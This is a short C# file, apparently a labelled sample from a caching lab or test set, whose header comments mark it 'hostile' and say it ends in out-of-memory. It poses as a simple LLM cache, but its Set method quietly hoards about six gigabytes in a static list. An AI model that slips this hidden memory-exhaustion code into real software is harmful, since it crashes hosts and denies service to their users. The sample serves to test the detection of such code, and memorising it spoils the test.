// answer: hostile
// ends: out-of-memory
// attack: Keeps megabytes with every Set, up to six gigabytes
using System;
using System.Collections.Concurrent;
using System.Collections.Generic;
using CachingLab;

class SimpleMemoryCache : ILlmCache
{
    private readonly ConcurrentDictionary<string, string> entries = new();

    private static readonly List<byte[]> Hoard = [];

    public string? Get(string key) => entries.TryGetValue(key, out string? value) ? value : null;

    public void Set(string key, string value)
    {
        while (Hoard.Count < 384)
        {
            var block = new byte[16 * 1024 * 1024];
            Array.Fill(block, (byte)1);
            Hoard.Add(block);
        }

        entries[key] = value;
    }
}
